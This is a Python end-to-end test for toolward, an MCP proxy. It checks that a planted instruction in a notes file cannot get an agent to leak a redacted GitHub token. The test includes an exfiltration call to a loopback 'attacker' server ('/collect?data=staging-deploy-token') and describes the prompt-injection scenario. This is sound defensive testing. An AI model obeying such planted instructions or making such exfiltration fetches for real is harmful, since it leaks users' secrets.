"""The data-flow example end to end with a real client (issue 30): the Python `mcp` client
library starts `toolward serve` on a temp copy of examples/data-flow, in front of the real
filesystem server and the real fetch server (PyPI `mcp-server-fetch`), and an "attacker"
HTTP server listens on loopback. It runs twice: with the example's rules deciding
(`toolward.json`, the default component) and with its Cedar policy deciding
(`toolward.cedar.json`, `policy.cedar`); the reviews and labels come from `rules.json` in
both.

1. A fetch of the attacker's page in a fresh session goes through (the fetch works, and the
   page is recorded).
2. In another session, reading `notes.txt` (a planted instruction and a token) delivers
   the text with the token redacted: the exact bytes are checked.
3. The fetch the planted instruction asks for, carrying data to the attacker, is held: the
   client is asked (elicitation) and shown why (the session has seen private data); it
   declines; the call is refused and the attacker receives nothing.
4. The audit log holds a `result-decision` record for the read (the token redacted in the
   text and in `structuredContent`) and never the token, and verifies.

Plain Python: run it with the venv that tests/real-servers/install.sh fills:

    tests/real-servers/.installed/venv/bin/python tests/clients/test_data_flow.py

Closes with `data-flow: N passed, N failed`; exit 1 when anything failed.
"""

from __future__ import annotations

import asyncio
import http.server
import json
import sys
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from common import INSTALLED, ROOT, Report, example_copy  # noqa: E402

from mcp import ClientSession, StdioServerParameters, stdio_client, types  # noqa: E402

CALL_TIMEOUT_S = 60
EXAMPLE = ROOT / "examples" / "data-flow"
TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"


class Attacker(http.server.ThreadingHTTPServer):
    """A loopback HTTP server that records every request's path."""

    def __init__(self):
        self.paths: list[str] = []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the standard library's name
                attacker.paths.append(self.path)
                body = b"<html><body><p>stored</p></body></html>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


def text_of(result) -> str:
    return "\n".join(getattr(c, "text", "") for c in result.content)


# Per variant: its config, and what the held fetch's question must say (the reason the
# policy gave, and what the session has seen).
VARIANTS = {
    "rules": (
        "toolward.json",
        ["accepts data up to `public`, and this session has seen `private` data", "this session has seen: private data"],
    ),
    "cedar": (
        "toolward.cedar.json",
        [
            "this session has seen untrusted content or private data; the fetch could carry it out",
            "this session has seen: private data",
        ],
    ),
}


async def run(ex, report: Report, attacker: Attacker, errlog, reasons: list[str]) -> None:
    asked: list[str] = []

    async def decline(context, params):
        asked.append(params.message)
        return types.ElicitResult(action="decline")

    server = StdioServerParameters(command=ex.serve_argv()[0], args=ex.serve_argv()[1:], cwd=str(ex.folder))

    # 1. A clean session: the fetch goes through.
    async with stdio_client(server, errlog=errlog) as (read, write):
        async with ClientSession(read, write, read_timeout_seconds=CALL_TIMEOUT_S, elicitation_callback=decline) as session:
            await session.initialize()
            listed = sorted(t.name for t in (await session.list_tools()).tools)
            report.check(
                "tools/list: the three classified tools",
                listed == ["fs__list_directory", "fs__read_text_file", "web__fetch"],
                f"got {listed}",
            )
            first = await session.call_tool("web__fetch", {"url": f"{attacker.url}/page", "raw": True})
            report.check(
                "a fetch in a session that has seen nothing goes through",
                not first.is_error and attacker.paths == ["/page"],
                f"isError={first.is_error} {text_of(first)[:300]!r} requests {attacker.paths}",
            )

    # 2–3. Another session reads the planted notes, then is asked to send the token out.
    async with stdio_client(server, errlog=errlog) as (read, write):
        async with ClientSession(read, write, read_timeout_seconds=CALL_TIMEOUT_S, elicitation_callback=decline) as session:
            await session.initialize()
            notes = await session.call_tool("fs__read_text_file", {"path": "notes.txt"})
            expected = (ex.sandbox / "notes.txt").read_text().replace(TOKEN, "[redacted secret:github-pat]")
            report.check(
                "the read delivers the notes with the token redacted, byte for byte",
                not notes.is_error and text_of(notes) == expected,
                f"isError={notes.is_error} {text_of(notes)!r}",
            )
            structured = getattr(notes, "structured_content", None) or getattr(notes, "structuredContent", None)
            report.check(
                "its structured copy is redacted alike",
                structured == {"content": expected},
                f"structuredContent={structured!r}",
            )
            before = len(attacker.paths)
            exfil = await session.call_tool(
                "web__fetch", {"url": f"{attacker.url}/collect?data=staging-deploy-token", "raw": True}
            )
            report.check(
                "the fetch after private data is refused",
                exfil.is_error and "declined" in text_of(exfil),
                f"isError={exfil.is_error} {text_of(exfil)!r}",
            )
            report.check(
                "the client was asked, and told what the session has seen",
                len(asked) == 1 and "web__fetch" in asked[0] and all(reason in asked[0] for reason in reasons),
                f"asked {asked!r}",
            )
            report.check(
                "the attacker received nothing",
                len(attacker.paths) == before,
                f"requests {attacker.paths}",
            )

    # 4. The audit.
    records = [json.loads(line) for line in ex.audit.read_text().splitlines() if line.strip()]
    reviews = [r for r in records if r.get("kind") == "result-decision" and r.get("tool") == "fs__read_text_file"]
    report.check(
        "the read's result-decision record: the token redacted in the text and the structured copy",
        len(reviews) == 1
        and reviews[0].get("result_action") == "redact"
        and reviews[0].get("redactions", {}).get("secret:github-pat") == 2
        and reviews[0].get("labels", {}).get("confidentiality") == "private",
        f"{reviews}",
    )
    report.check("the audit log never holds the token", TOKEN not in ex.audit.read_text())
    verify = ex.toolward("audit", "verify", "--config", str(ex.config))
    report.check("audit verify: intact", verify.returncode == 0, verify.stdout + verify.stderr)


def run_variant(variant: str, report: Report) -> None:
    config_name, reasons = VARIANTS[variant]
    ex = example_copy(f"toolward-data-flow-{variant}-", example=EXAMPLE, config=config_name)
    # The attacker listens on loopback, which the fetch server refuses unless told: in a
    # deployment, leave the flag out.
    config = json.loads(ex.config.read_text())
    config["mcpServers"]["web"]["args"].append("--allow-private-ips")
    ex.config.write_text(json.dumps(config, indent=2) + "\n")
    attacker = Attacker()
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    errlog_path = ex.folder / "serve.stderr"
    failed_before = report.failed
    try:
        with open(errlog_path, "w") as errlog:
            asyncio.run(run(ex, report, attacker, errlog, reasons))
    except Exception as e:  # noqa: BLE001 - reported as a failure
        report.check("the scenario ran to the end", False, f"{type(e).__name__}: {e}")
    finally:
        attacker.shutdown()
    if report.failed > failed_before:
        print(errlog_path.read_text()[-4000:], file=sys.stderr)
    else:
        ex.cleanup()


def main() -> int:
    fetch = INSTALLED / "venv" / "bin" / "mcp-server-fetch"
    if not fetch.exists():
        sys.exit(f"{fetch} is missing: bash tests/real-servers/install.sh")
    report = Report("data-flow")
    for variant in VARIANTS:
        report.prefix = f"[{variant}] "
        run_variant(variant, report)
    return report.close()


if __name__ == "__main__":
    sys.exit(main())
